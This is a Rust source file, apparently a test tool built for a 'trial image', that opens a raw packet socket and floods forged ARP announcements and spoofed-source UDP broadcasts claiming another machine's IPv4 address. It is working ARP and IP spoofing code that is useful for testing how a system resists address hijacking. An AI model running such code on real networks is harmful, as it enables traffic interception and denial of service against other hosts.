//! A program that says with all its might that a foreign address is its own: forged announcements of ARP, and packets of IP in that address's name.
//!
//! One process, so that what is felt beside it is what it sends and not that programs are started. `spoof ADDRESS PAUSE`: microseconds between two
//! pairs of frames.
//!
//! Not part of xtask: `hostile` compiles it without libraries of its own, for the trial image.

use std::io;
use std::net::Ipv4Addr;
use std::time::Duration;

const AF_PACKET: i32 = 17;
const SOCK_RAW: i32 = 3;
const EVERYBODY: [u8; 6] = [0xff; 6];

/// `sockaddr_ll` of packet(7).
#[repr(C)]
struct LinkAddress {
    family: u16,
    protocol: u16,
    index: i32,
    hardware: u16,
    kind: u8,
    length: u8,
    address: [u8; 8],
}

unsafe extern "C" {
    fn socket(family: i32, kind: i32, protocol: i32) -> i32;
    fn sendto(
        fd: i32,
        bytes: *const u8,
        length: usize,
        flags: i32,
        to: *const LinkAddress,
        size: u32,
    ) -> isize;
    fn if_nametoindex(name: *const std::ffi::c_char) -> u32;
}

fn main() -> io::Result<()> {
    let mut words = std::env::args().skip(1);
    let foreign: Ipv4Addr = words
        .next()
        .and_then(|word| word.parse().ok())
        .ok_or(io::ErrorKind::InvalidInput)?;
    let pause = words.next().and_then(|word| word.parse().ok()).unwrap_or(0);
    let text = std::fs::read_to_string("/sys/class/net/eth0/address")?;
    let mut own = [0; 6];
    for (byte, digits) in own.iter_mut().zip(text.trim().split(':')) {
        *byte = u8::from_str_radix(digits, 16).map_err(io::Error::other)?;
    }
    // SAFETY: numbers only.
    let fd = unsafe { socket(AF_PACKET, SOCK_RAW, 0) };
    if fd < 0 {
        return Err(io::Error::last_os_error());
    }
    // SAFETY: a text with its end.
    let index = unsafe { if_nametoindex(c"eth0".as_ptr()) };
    let to = LinkAddress {
        family: AF_PACKET as u16,
        protocol: 0,
        index: index as i32,
        hardware: 0,
        kind: 0,
        length: 6,
        address: [0xff; 8],
    };
    let frames = [announcement(own, foreign), packet(own, foreign)];
    loop {
        for frame in &frames {
            // SAFETY: both point to what lives here, with its size. Full queues are no reason to stop.
            unsafe {
                sendto(
                    fd,
                    frame.as_ptr(),
                    frame.len(),
                    0,
                    &to,
                    size_of::<LinkAddress>() as u32,
                )
            };
        }
        if pause > 0 {
            std::thread::sleep(Duration::from_micros(pause));
        }
    }
}

/// An answer that nobody asked for (RFC 826): `foreign` is at `own`.
fn announcement(own: [u8; 6], foreign: Ipv4Addr) -> Vec<u8> {
    let mut frame = [EVERYBODY, own].concat();
    frame.extend([0x08, 0x06, 0, 1, 0x08, 0, 6, 4, 0, 2]);
    frame.extend(own);
    frame.extend(foreign.octets());
    frame.extend(EVERYBODY);
    frame.extend(foreign.octets());
    frame
}

/// An empty datagram of UDP (RFC 768) from `foreign` to everybody.
fn packet(own: [u8; 6], foreign: Ipv4Addr) -> Vec<u8> {
    let mut head = vec![0x45, 0, 0, 28, 0, 1, 0, 0, 64, 17, 0, 0];
    head.extend(foreign.octets());
    head.extend(Ipv4Addr::BROADCAST.octets());
    let mut sum: u32 = head
        .chunks(2)
        .map(|pair| u32::from(pair[0]) << 8 | u32::from(pair[1]))
        .sum();
    sum = (sum & 0xffff) + (sum >> 16);
    let sum = !((sum & 0xffff) + (sum >> 16)) as u16;
    head[10..12].copy_from_slice(&sum.to_be_bytes());
    head.extend([0x30, 0x39, 0x30, 0x39, 0, 8, 0, 0]);
    [&[EVERYBODY, own].concat()[..], &[0x08, 0x00], &head].concat()
}
